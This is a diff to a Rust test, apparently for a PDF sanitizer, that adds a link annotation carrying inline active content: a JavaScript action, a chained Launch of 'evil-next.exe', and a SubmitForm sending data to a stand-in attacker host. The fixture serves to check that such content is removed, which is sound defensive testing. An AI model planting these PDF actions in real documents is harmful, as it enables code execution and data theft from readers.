@@ -515,6 +515,14 @@ fn active_content_of_an_exhibit_is_taken_out() {
         doc.add_object(dictionary! { "Type" => "Annot", "Subtype" => "Link", "Rect" => rect(), "A" => submit }).into(),
         doc.add_object(dictionary! { "Type" => "Annot", "Subtype" => "Link", "Rect" => rect(), "A" => web }).into(),
     ];
+    let mut annots = annots;
+    // The same kinds written inline, inside the annotation and inside nested dictionaries.
+    annots.push(Object::Dictionary(dictionary! {
+        "Type" => "Annot", "Subtype" => "Link", "Rect" => rect(),
+        "A" => dictionary! { "S" => "JavaScript", "JS" => Object::string_literal("app.alert('evil-inline')"),
+            "Next" => vec![Object::Dictionary(dictionary! { "S" => "Launch", "F" => Object::string_literal("evil-next.exe") })] },
+        "AA" => dictionary! { "E" => dictionary! { "S" => "SubmitForm", "F" => Object::string_literal("https://evil-inline-submit.example/") } },
+    }));
     let page = doc.add_object(dictionary! {
         "Type" => "Page", "Parent" => pages_id, "Contents" => content, "Annots" => annots,
         "AA" => dictionary! { "O" => js },
